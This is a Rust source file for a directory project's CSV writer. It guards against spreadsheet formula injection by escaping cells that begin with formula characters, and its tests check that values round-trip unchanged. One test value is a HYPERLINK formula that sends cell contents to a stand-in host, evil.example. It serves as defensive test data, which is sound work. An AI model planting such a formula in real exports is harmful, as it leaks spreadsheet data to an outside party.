//! The one CSV writer: every CSV the directory hands to people (exports,
//! the audit log, templates, and any later download) goes through it.
//!
//! Spreadsheet programs run a cell that starts with `=`, `+`, `-`, `@`, a
//! tab or a carriage return as a formula, so text typed into the directory
//! (a sign-in email, a legal basis) could run in an editor's spreadsheet.
//! Such a cell is written with a leading `'`, which spreadsheets show as
//! text; [`unescape_cell`] takes it off again when the project's own CSV is
//! imported, so an export imports back to the very same values.

use std::borrow::Cow;
use std::io::Write;

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as written: a leading `'` before a formula start, and before a
/// `'` that itself precedes one (so that one comes back too).
pub fn escape_cell(value: &str) -> Cow<'_, str> {
    let mut chars = value.chars();
    let needs = match chars.next() {
        Some(c) if FORMULA_STARTS.contains(&c) => true,
        Some('\'') => chars.next().is_some_and(|c| c == '\'' || FORMULA_STARTS.contains(&c)),
        _ => false,
    };
    if needs { Cow::Owned(format!("'{value}")) } else { Cow::Borrowed(value) }
}

/// A cell as read back: the inverse of [`escape_cell`].
pub fn unescape_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(|c: char| c == '\'' || FORMULA_STARTS.contains(&c)) => rest,
        _ => cell,
    }
}

pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> CsvWriter<W> {
        CsvWriter { inner: csv::Writer::from_writer(out) }
    }

    pub fn row<I, S>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.inner.write_record(cells.into_iter().map(|c| escape_cell(c.as_ref()).into_owned()))
    }

    pub fn finish(self) -> anyhow::Result<W> {
        self.inner.into_inner().map_err(|e| anyhow::anyhow!("writing CSV: {}", e.error()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_would_run_as_formulas_are_written_as_text() {
        for (value, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            ),
            ("+1", "'+1"),
            ("-cmd", "'-cmd"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("''", "'''"),
            ("'quoted'", "'quoted'"),
            ("plain", "plain"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(escape_cell(value), written, "{value:?}");
            assert_eq!(unescape_cell(&escape_cell(value)), value, "round trip of {value:?}");
        }
    }

    #[test]
    fn every_value_comes_back_as_it_was() {
        let starts = ["", "'", "''", "=", "'=", "+", "-", "@", "\t", "\r", "a", "'a"];
        for a in starts {
            for b in starts {
                let value = format!("{a}{b}x");
                assert_eq!(unescape_cell(&escape_cell(&value)), value);
                assert!(!escape_cell(&value).starts_with(FORMULA_STARTS), "{value:?}");
            }
        }
    }

    #[test]
    fn the_writer_escapes_every_cell() {
        let mut w = CsvWriter::new(Vec::new());
        w.row(["=1+1", "ok"]).unwrap();
        assert_eq!(String::from_utf8(w.finish().unwrap()).unwrap(), "'=1+1,ok\n");
    }
}
